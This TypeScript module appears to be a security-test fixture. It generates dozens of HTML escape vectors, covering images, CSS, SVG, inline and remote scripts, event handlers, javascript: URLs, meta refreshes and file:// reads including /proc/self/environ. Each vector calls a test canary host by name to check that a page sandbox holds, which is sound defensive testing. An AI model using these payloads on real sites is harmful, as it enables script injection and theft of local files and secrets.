/**
 * Ways out of a page, as markup that content must never be able to make and that is put here past every filter. Each
 * asks for a path of its own, so that one that gets out is known by name.
 */
export function hostileVectors(host: string, tcp: string, secret: string): Readonly<Record<string, string>> {
  const to = (name: string) => `http://${host}/${name}`;
  const file = `file://${secret}`;
  const ran = (name: string) => `document.title='ran';document.body.append('SCRIPT-RAN');new Image().src='${to(name)}'`;
  return {
    img: `<img src="${to('img')}">`,
    srcset: `<img srcset="${to('srcset')} 1x, ${to('srcset2')} 2x">`,
    lazy: `<img loading="lazy" src="${to('lazy')}">`,
    picture: `<picture><source srcset="${to('picture')}"><img></picture>`,
    video: `<video src="${to('video')}" poster="${to('poster')}" autoplay></video>`,
    audio: `<audio src="${to('audio')}" autoplay preload="auto"></audio>`,
    source: `<video autoplay><source src="${to('source')}"><track default src="${to('track')}"></video>`,
    embed: `<embed src="${to('embed')}">`,
    object: `<object data="${to('object')}"></object>`,
    iframe: `<iframe src="${to('iframe')}"></iframe>`,
    srcdoc: `<iframe srcdoc="<img src='${to('srcdoc')}'><script>top.document.title='ran'</script>"></iframe>`,
    frameRefresh: `<iframe srcdoc="<meta http-equiv=refresh content='0;url=${to('frame-refresh')}'>"></iframe>`,
    frameset: `<frameset><frame src="${to('frame')}"></frameset>`,
    fenced: `<fencedframe src="${to('fenced')}"></fencedframe>`,
    stylesheet: `<link rel="stylesheet" href="${to('stylesheet')}">`,
    preload: `<link rel="preload" as="image" href="${to('preload')}">`,
    prefetch: `<link rel="prefetch" href="${to('prefetch')}">`,
    preconnect: `<link rel="preconnect" href="http://${tcp}">`,
    dns: `<link rel="dns-prefetch" href="//canary.invalid">`,
    prerender: `<link rel="prerender" href="${to('prerender')}">`,
    modulepreload: `<link rel="modulepreload" href="${to('module')}">`,
    icon: `<link rel="icon" href="${to('icon')}">`,
    manifest: `<link rel="manifest" href="${to('manifest')}">`,
    htmlImport: `<link rel="import" href="${to('import')}">`,
    cssImport: `<style>@import url("${to('css-import')}");</style>`,
    cssImportTcp: `<style>@import "//${tcp}/x.css";</style>`,
    background: `<div style="background:url(${to('background')})">x</div>`,
    bodyBackground: `<table background="${to('table-background')}"><tr><td background="${to('td')}">x</td></tr></table>`,
    listStyle: `<ul><li style="list-style:url(${to('list-style')})">x</li></ul>`,
    borderImage: `<div style="border:5px solid;border-image:url(${to('border-image')}) 5">x</div>`,
    mask: `<div style="mask:url(${to('mask')});-webkit-mask:url(${to('webkit-mask')})">x</div>`,
    cursor: `<div style="cursor:url(${to('cursor')}),auto">x</div>`,
    content: `<style>#c::before{content:url(${to('content')})}</style><p id="c">x</p>`,
    font: `<style>@font-face{font-family:F;src:url(${to('font')})}</style><p style="font-family:F">x</p>`,
    imageSet: `<div style="background:image-set(url(${to('image-set')}) 1x)">x</div>`,
    printRule: `<style>@media print{p{background:url(${to('print')})}}@page{background:url(${to('page')})}</style>`,
    svgImage: `<svg><image href="${to('svg-image')}" xlink:href="${to('svg-xlink')}" width="9" height="9"/></svg>`,
    svgUse: `<svg><use href="${to('svg-use')}#a"/></svg>`,
    svgFilter: `<svg><filter id="f"><feImage href="${to('fe-image')}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    svgForeign: `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${to('foreign')}"/></foreignObject></svg>`,
    svgScript: `<svg><script href="${to('svg-script')}"></script><script>${ran('svg-inline')}</script></svg>`,
    svgLoad: `<svg onload="${ran('svg-onload')}"></svg>`,
    svgDataImage: `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${to('data-svg')}"/></svg>`)}">`,
    script: `<script>${ran('script')}</script>`,
    scriptSrc: `<script src="${to('script-src')}"></script>`,
    scriptModule: `<script type="module">import '${to('script-module')}';${ran('module-inline')}</script>`,
    error: `<img src="x" onerror="${ran('onerror')}">`,
    focus: `<input autofocus onfocus="${ran('onfocus')}">`,
    toggle: `<details open ontoggle="${ran('ontoggle')}">x</details>`,
    animation: `<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart="${ran('animation')}">x</p>`,
    javascript: `<iframe src="javascript:${ran('javascript')}"></iframe><a href="javascript:${ran('link')}">x</a>`,
    formImage: `<form action="${to('form')}"><input type="image" src="${to('input-image')}"><button>x</button></form>`,
    speculation: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${to('speculation')}"]}]}</script>`,
    webSocket: `<script>new WebSocket('ws://${host}/socket');fetch('${to('fetch')}');navigator.sendBeacon('${to('beacon')}')</script>`,
    base: `<base href="http://${host}/"><img src="base-image"><a href="base-link">x</a>`,
    ping: `<a href="${to('href')}" ping="${to('ping')}">x</a>`,
    portal: `<portal src="${to('portal')}"></portal>`,
    math: `<math><maction actiontype="statusline" xlink:href="${to('math')}">x</maction></math>`,
    loopbacks: `<img src="http://localhost:${host.split(':')[1]}/localhost"><img src="http://[::ffff:127.0.0.1]:${host.split(':')[1]}/mapped">`,
    shadow: `<div><template shadowrootmode="open"><img src="${to('shadow')}"></template></div>`,
    fileFrame: `<iframe src="${file}" width="400" height="200"></iframe>`,
    fileUpper: `<iframe src="FILE://${secret}"></iframe>`,
    fileLocalhost: `<object data="file://localhost${secret}" type="text/plain"></object>`,
    fileEmbed: `<embed src="${file}" type="text/plain">`,
    fileShare: `<iframe src="\\\\localhost${secret.replaceAll('/', '\\')}"></iframe>`,
    fileImage: `<img src="${file}"><link rel="stylesheet" href="${file}">`,
    environ: `<iframe src="file:///proc/self/environ"></iframe>`,
    clobber: `<form name="fonts"></form><img name="body" id="documentElement"><form id="lessonpress" name="lessonpress"></form>`,
  };
}

/** Pages that lead elsewhere by themselves. */
export function refreshVectors(host: string, secret: string): Readonly<Record<string, string>> {
  const refresh = (url: string) => `<meta http-equiv="refresh" content="0;url=${url}">`;
  return {
    http: refresh(`http://${host}/refresh`),
    file: refresh(`file://${secret}`),
    upper: `<META HTTP-EQUIV="ReFrEsH" CONTENT="0; URL=http://${host}/upper">`,
    itself: '<meta http-equiv="refresh" content="0">',
    inSvg: `<svg><desc>${refresh(`http://${host}/in-svg`)}</desc></svg>`,
    inNoscript: `<noscript>${refresh(`http://${host}/in-noscript`)}</noscript>`,
    later: `<meta http-equiv="refresh" content="1;url=http://${host}/later">`,
  };
}
